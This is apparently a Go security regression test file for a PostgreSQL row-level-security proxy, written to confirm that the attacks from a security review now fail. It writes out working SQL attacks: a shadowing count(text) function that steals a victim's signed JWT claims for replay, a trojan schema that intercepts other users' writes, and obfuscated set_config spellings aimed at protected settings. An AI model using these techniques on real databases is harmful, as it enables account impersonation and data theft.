package proxy_test

// Attacks from review 10: set_config of unprotected names, pg_dump's
// pg_settings call, CREATE EXTENSION IF NOT EXISTS, --guard-allow-code and
// the per-role logins with the guard off. The two findings are fixed; their
// tests now prove that the attacks fail.

import (
	"context"
	"strconv"
	"strings"
	"testing"

	"github.com/rlsproxy/rlsproxy/internal/proxytest"
)

// r10Super runs sql as the superuser on the demo database.
func r10Super(t *testing.T, sql string) {
	t.Helper()
	if _, err := superConn(t).Exec(context.Background(), sql); err != nil {
		t.Fatalf("superuser: %s: %v", sql, err)
	}
}

// r10Query runs one simple Query and returns its rows (each column joined
// by "|") and the first error's SQLSTATE.
func r10Query(t *testing.T, c *rawClient, sql string) ([]string, string) {
	t.Helper()
	rows, code := wallRows(t, c, sql)
	var out []string
	for _, r := range rows {
		var cols []string
		for _, v := range r {
			cols = append(cols, deref(v))
		}
		out = append(out, strings.Join(cols, "|"))
	}
	return out, code
}

func r10Must(t *testing.T, c *rawClient, sql string) []string {
	t.Helper()
	rows, code := r10Query(t, c, sql)
	if code != "" {
		t.Fatalf("%s: SQLSTATE %s", sql, code)
	}
	return rows
}

// r10ShadowCount is the trap: a count(text) that the proxy's own
// installSettingsSQL,
//
//	SELECT count(pg_catalog.set_config(...)) FROM unnest($1::bytea[], $2::bytea[]) ...
//
// resolves to instead of pg_catalog.count("any"), because `count` is not
// schema-qualified and an exact count(text) in any schema on the search
// path beats the polymorphic built-in. It is a plain set-returning SQL
// function (CREATE AGGREGATE stays refused even with --guard-allow-code):
// it returns no row until the last setting (the 64-hex signature), then the
// number of settings, so the proxy's row check passes and the victim's
// install completes as usual. On the last call it copies the backend pid,
// the victim's claims and their signature to a table the attacker reads.
const r10ShadowCount = `
CREATE FUNCTION %s.count(v text) RETURNS SETOF bigint LANGUAGE sql AS $f$
  SELECT pg_catalog.set_config('r10.n', (coalesce(nullif(pg_catalog.current_setting('r10.n', true), ''), '0')::int + 1)::text, false);
  INSERT INTO %s.loot SELECT pg_catalog.pg_backend_pid(), pg_catalog.current_setting('request.jwt.claims', true), v WHERE v ~ '^[0-9a-f]{64}$';
  SELECT pg_catalog.set_config('r10.out', pg_catalog.current_setting('r10.n'), false), pg_catalog.set_config('r10.n', '0', false) WHERE v ~ '^[0-9a-f]{64}$';
  SELECT pg_catalog.current_setting('r10.out')::bigint WHERE v ~ '^[0-9a-f]{64}$';
$f$`

// FIXED (session/proof.go qualifies every name). The proxy's install batch
// called `count` unqualified, so a client
// role that can create in any schema on the login's default search_path
// ("$user", public) plants a function that every later install of that role
// runs, as the login, inside the victim's session, after the victim's claims
// and signature are set. Here it copies them out; the attacker, back on the
// same pooled backend, installs them with code the guard lets through and
// auth.user_id() returns user2: the signed-claims wall is bypassed.
//
// The privilege it needs is CREATE on the database (CREATE SCHEMA named
// after the login, so only the proxy's own install sees it: "$user" is the
// login after the batch's RESET ROLE), or CREATE on public (PostgreSQL 14 and
// earlier grant it to PUBLIC; upgraded databases keep it; apps that migrate
// through the proxy need it). The e2e TypeORM test grants CREATE ON DATABASE
// to authenticated exactly so. The "$user" schemas are reserved by rlsproxy
// sql now; the test drops the login's, as in a database set up before.
func TestReview10InstallCountShadowedStealsSignedClaims(t *testing.T) {
	for _, mode := range []struct {
		name  string
		grant string
		// schema the trap lives in
		schema string
		opts   []proxytest.Option
		harden bool // rlsproxy sql --harden's revokes (TEMP, plpgsql, set_config)
	}{
		{"allow-code, CREATE ON DATABASE, $user schema of the login", "GRANT CREATE ON DATABASE app TO authenticated", "authenticator_authenticated",
			[]proxytest.Option{withSigner, proxytest.AllowCode}, false},
		{"allow-code, CREATE ON SCHEMA public", "GRANT CREATE ON SCHEMA public TO authenticated", "public",
			[]proxytest.Option{withSigner, proxytest.AllowCode}, false},
		{"guard off, CREATE ON SCHEMA public", "GRANT CREATE ON SCHEMA public TO authenticated", "public",
			[]proxytest.Option{withSigner, proxytest.GuardOff}, false},
		{"guard off, hardened, CREATE ON DATABASE", "GRANT CREATE ON DATABASE app TO authenticated", "authenticator_authenticated",
			[]proxytest.Option{withSigner, proxytest.GuardOff}, true},
	} {
		t.Run(mode.name, func(t *testing.T) {
			r10Super(t, mode.grant)
			if mode.harden {
				r10Super(t, `REVOKE TEMPORARY ON DATABASE app FROM PUBLIC;
					REVOKE USAGE ON LANGUAGE plpgsql FROM PUBLIC;
					REVOKE EXECUTE ON FUNCTION pg_catalog.set_config(text, text, boolean) FROM PUBLIC;
					GRANT EXECUTE ON FUNCTION pg_catalog.set_config(text, text, boolean) TO authenticator, authenticator_authenticated, authenticator_admin, authenticator_editor, authenticator_anon`)
				t.Cleanup(func() {
					_, _ = superConn(t).Exec(context.Background(), `GRANT TEMPORARY ON DATABASE app TO PUBLIC;
						GRANT USAGE ON LANGUAGE plpgsql TO PUBLIC;
						GRANT EXECUTE ON FUNCTION pg_catalog.set_config(text, text, boolean) TO PUBLIC`)
				})
			}
			t.Cleanup(func() {
				c := superConn(t)
				ctx := context.Background()
				if mode.schema == "public" {
					_, _ = c.Exec(ctx, "DROP FUNCTION IF EXISTS public.count(text); DROP TABLE IF EXISTS public.loot")
				} else {
					_, _ = c.Exec(ctx, "DROP SCHEMA IF EXISTS "+mode.schema+" CASCADE")
				}
				_, _ = c.Exec(ctx, "REVOKE CREATE ON DATABASE app FROM authenticated; REVOKE CREATE ON SCHEMA public FROM authenticated")
			})
			if mode.schema != "public" {
				r10Super(t, "DROP SCHEMA IF EXISTS "+mode.schema)
			}
			p := proxytest.Start(t, pg, append([]proxytest.Option{proxytest.Pooled(1, 1)}, mode.opts...)...)

			// 1. The attacker (user1) plants the trap: nothing here is
			// refused by the guard with --guard-allow-code.
			a := rawSession(t, p, "user1")
			s := mode.schema
			if s != "public" {
				r10Must(t, a, "CREATE SCHEMA "+s+"; GRANT USAGE ON SCHEMA "+s+" TO PUBLIC")
			}
			r10Must(t, a, "CREATE TABLE "+s+".loot (pid int, claims text, sig text); GRANT INSERT, SELECT ON "+s+".loot TO PUBLIC")
			r10Must(t, a, strings.ReplaceAll(r10ShadowCount, "%s", s))
			a.Close()

			// 2. The victim (user2) uses the same pooled backend as usual:
			// nothing looks wrong to it.
			v := connectRetry(t, p, "user2")
			victimPID := backendPID(t, v)
			if got := queryStrings(t, v, "SELECT content FROM signed_notes"); len(got) != 1 || got[0] != "signed: user2" {
				t.Fatalf("victim's own rows: %v", got)
			}
			v.Close(context.Background())

			// 3. The attacker, back on the backend, installs the victim's
			// claims and signature.
			var a2 *rawClient
			for range 20 {
				a2 = rawSession(t, p, "user1")
				if pid := r10Must(t, a2, "SELECT pg_backend_pid()"); pid[0] == strconv.Itoa(victimPID) {
					break
				}
				a2.Close()
				a2 = nil
			}
			if a2 == nil {
				t.Fatal("never got the victim's backend back")
			}
			loot := r10Must(t, a2, "SELECT claims, sig FROM "+s+".loot WHERE pid = pg_backend_pid() AND claims LIKE '%\"sub\":\"user2\"%' LIMIT 1")
			if len(loot) == 0 {
				return // the install never ran the planted count(): nothing to replay
			}
			t.Errorf("FINDING: the victim's install ran the planted count(): loot %v", loot)
			claims, sig, _ := strings.Cut(loot[0], "|")
			install := "SELECT set_config('request.jwt.claims', " + quoteLiteral(claims) + ", false), set_config('rlsproxy.claims_signature', " + quoteLiteral(sig) + ", false)"
			if mode.harden {
				// set_config is the login's alone: the session reaches it.
				install = "RESET ROLE; " + install + "; SET ROLE authenticated"
			}
			if strings.Contains(mode.name, "allow-code") {
				install = "DO $x$BEGIN PERFORM set_config('request.jwt.claims', " + quoteLiteral(claims) + ", false); PERFORM set_config('rlsproxy.claims_signature', " + quoteLiteral(sig) + ", false); END$x$"
			}
			r10Must(t, a2, install)
			who := r10Must(t, a2, "SELECT auth.user_id()")
			rows := r10Must(t, a2, "SELECT content FROM signed_notes")
			t.Logf("attacker user1 after replaying the stolen claims: auth.user_id()=%v, signed_notes=%v", who, rows)
			if who[0] == "user2" {
				t.Errorf("FINDING: user1 acts as user2 through auth.user_id(): signed_notes %v", rows)
			}
		})
	}
}

// FIXED: the guard refuses a schema named after a mapped role (user_schema)
// and rlsproxy sql reserves the names, so each wall stops it alone; rlsproxy
// check reports a name left free where the role may create schemas. Every user of a
// mapped role shares the role's "$user" schema. Where the role may create
// schemas (CREATE ON DATABASE, as TypeORM's synchronize through the proxy
// needs, and as the e2e test grants), user1 creates schema "authenticated",
// which is first on every later session's search_path ("$user", public):
// the unqualified table names of other users' statements then resolve to
// user1's tables. user2's writes land where user1 reads them, and user2
// reads what user1 wrote, RLS nowhere in the way.
func TestReview10UserSchemaTrojansOtherUsers(t *testing.T) {
	r10Super(t, "GRANT CREATE ON DATABASE app TO authenticated")
	t.Cleanup(func() {
		c := superConn(t)
		_, _ = c.Exec(context.Background(), "REVOKE CREATE ON DATABASE app FROM authenticated")
	})
	// Each wall alone: the guard with the name free (a database set up
	// before the reservation), and the reservation with the guard off.
	for _, spelling := range []string{"CREATE SCHEMA authenticated", `CREATE SCHEMA "authenticated"`, "CREATE SCHEMA x; ALTER SCHEMA x RENAME TO authenticated"} {
		func() {
			r10Super(t, "DROP SCHEMA IF EXISTS authenticated")
			defer r10Super(t, "DROP SCHEMA IF EXISTS authenticated CASCADE; DROP SCHEMA IF EXISTS x CASCADE; CREATE SCHEMA authenticated")
			p := proxytest.Start(t, pg, withSigner)
			a := rawSession(t, p, "user1")
			if _, code := r10Query(t, a, spelling); code != "42501" {
				t.Errorf("guard on: %s: SQLSTATE %q, want 42501", spelling, code)
			}
			a.Close()
		}()
		p := proxytest.Start(t, pg, withSigner, proxytest.GuardOff)
		a := rawSession(t, p, "user1")
		if _, code := r10Query(t, a, spelling); code != "42P06" && code != "42501" {
			t.Errorf("guard off, name reserved: %s: SQLSTATE %q, want 42P06 or 42501", spelling, code)
		}
		a.Close()
		r10Super(t, "DROP SCHEMA IF EXISTS x CASCADE")
	}

	// The attack itself, on a database set up before the reservation, with
	// the guard off: what the guard alone prevents.
	r10Super(t, "DROP SCHEMA IF EXISTS authenticated")
	t.Cleanup(func() {
		_, _ = superConn(t).Exec(context.Background(), "DROP SCHEMA IF EXISTS authenticated CASCADE; CREATE SCHEMA authenticated")
	})
	p := proxytest.Start(t, pg, withSigner, proxytest.GuardOff)
	a := rawSession(t, p, "user1")
	r10Must(t, a, "CREATE SCHEMA authenticated")
	r10Must(t, a, "CREATE TABLE authenticated.notes (id serial, user_id text NOT NULL DEFAULT 'x', content text NOT NULL)")
	r10Must(t, a, "INSERT INTO authenticated.notes (user_id, content) VALUES ('user2', 'planted by user1')")
	a.Close()

	v := connect(t, p, "user2", p.Token(t, "user2"))
	ctx := context.Background()
	if _, err := v.Exec(ctx, "INSERT INTO notes (content) VALUES ('user2: my secret')"); err != nil {
		t.Fatal(err)
	}
	seen := queryStrings(t, v, "SELECT content FROM notes ORDER BY id")
	v.Close(ctx)

	a2 := rawSession(t, p, "user1")
	stolen := r10Must(t, a2, "SELECT content FROM authenticated.notes ORDER BY id")
	t.Logf("user2 saw %v; user1 reads %v", seen, stolen)
	if len(stolen) != 2 || stolen[1] != "user2: my secret" {
		t.Errorf("with neither wall the trojan schema should catch user2's writes (the test's premise): %v", stolen)
	}
}

// Stopped: spellings of set_config that try to make a constant-looking name
// reach the server as a protected one, and pg_dump's pg_settings call with
// pg_settings shadowed by a temporary table. The guard refuses every one
// that names a protected setting; the shadowed pg_settings can only hand
// set_config a name equal under the column's equality, and no implicitly
// text-castable type makes 'restrict_nonsystem_relation_kind' equal to a
// protected name ("char" makes it 'r', which names nothing).
func TestReview10SetConfigSpellingsHeld(t *testing.T) {
	p := proxytest.Start(t, pg, withSigner)
	for _, tc := range []struct{ sql, want string }{
		{"SELECT set_config(new_value => 'admin', setting_name => 'role', is_local => false)", "42501"},
		{"SELECT set_config(setting_name => 'search_path'::text, new_value => 'public', is_local => false)", "42883"}, // PG15's set_config has no argument names
		{"SELECT set_config('ROLE'::name, 'admin', false)", "42501"},
		{"SELECT set_config('Jwt.Claims.Sub', 'user2', false)", "42501"},
		{"SELECT set_config(E'\\x72ole', 'admin', false)", "42501"},
		{"SELECT set_config(U&'\\0072ole', 'admin', false)", "42501"},
		{"SELECT set_config($$role$$, 'admin', false)", "42501"},
		{"SELECT set_config('request.jwt.claims' COLLATE \"C\", '{}', false)", "42501"},
		{"SELECT set_config('search_path', 'public', false) FROM (SELECT set_config('role', 'admin', false)) s", "42501"},
		{"SELECT set_config('client_encoding', new_value => 'SJIS', is_local => false)", "42501"},
		{"SELECT set_config('client_encoding', (SELECT 'SJIS'), false)", "42501"},
		{"SELECT (set_config('search_path', 'public', false), 1)::record", ""},
		{"CREATE TEMP TABLE pg_settings (name \"char\"); INSERT INTO pg_settings VALUES ('role'); SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'", "42704"},
		{"SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind' COLLATE \"C\"", "42501"},
		{"SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind' OR name = 'role'", "42501"},
	} {
		c := rawSession(t, p, "user1")
		_, code := r10Query(t, c, tc.sql)
		who := r10Must(t, c, "SELECT current_user, auth.user_id()")
		c.Close()
		t.Logf("%-60.60s -> %s, then %v", tc.sql, orOK(code), who)
		if code != tc.want && !(tc.want == "42704" && strings.HasPrefix(code, "22")) {
			t.Errorf("%s: SQLSTATE %q, want %q", tc.sql, code, tc.want)
		}
		if who[0] != "authenticated|user1" {
			t.Errorf("%s: the session became %v", tc.sql, who)
		}
	}
}

// Stopped: with CREATE ON DATABASE, CREATE EXTENSION IF NOT EXISTS installs
// a trusted extension the database lacked (tablefunc), but its query
// executors stay refused by name, its functions are owned by the bootstrap
// superuser (no RENAME), and ALTER EXTENSION is refused. No trusted
// extension of PostgreSQL 15 defines a function or operator that beats the
// proxy's unqualified count(text) or oid = integer.
func TestReview10CreateExtensionHeld(t *testing.T) {
	r10Super(t, "GRANT CREATE ON DATABASE app TO authenticated")
	t.Cleanup(func() {
		c := superConn(t)
		_, _ = c.Exec(context.Background(), "DROP EXTENSION IF EXISTS tablefunc; REVOKE CREATE ON DATABASE app FROM authenticated")
	})
	p := proxytest.Start(t, pg, withSigner)
	c := rawSession(t, p, "user1")
	r10Must(t, c, "CREATE EXTENSION IF NOT EXISTS tablefunc")
	for _, tc := range []struct{ sql, want string }{
		{"SELECT * FROM crosstab('SELECT set_config(''jwt.claims.sub'', ''user2'', false), 1::text, 1::text') AS t(a text, b text)", "42501"},
		{"SELECT * FROM connectby('notes', 'id', 'user_id', '1', 0) AS t(a int, b int, c int)", "42501"},
		{"ALTER FUNCTION connectby(text, text, text, text, integer) RENAME TO innocent", "42501"},
		{"ALTER EXTENSION tablefunc DROP FUNCTION normal_rand(integer, double precision, double precision)", "42501"},
	} {
		_, code := r10Query(t, c, tc.sql)
		t.Logf("%-60.60s -> %s", tc.sql, orOK(code))
		if code != tc.want {
			t.Errorf("%s: SQLSTATE %q, want %q", tc.sql, code, tc.want)
		}
	}
}
